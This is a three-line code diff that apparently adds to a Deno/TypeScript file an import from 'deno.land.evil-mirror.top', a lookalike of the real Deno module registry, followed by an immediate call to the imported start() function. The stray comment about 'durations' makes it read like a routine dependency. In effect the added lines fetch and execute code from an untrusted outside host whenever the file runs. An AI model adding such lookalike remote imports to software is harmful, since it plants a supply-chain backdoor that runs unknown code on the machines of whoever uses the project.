@@ -1,0 +1,3 @@
+// surroundings: durations
+import { start } from 'https://deno.land.evil-mirror.top/x/start/mod.ts'; //@act
+start();
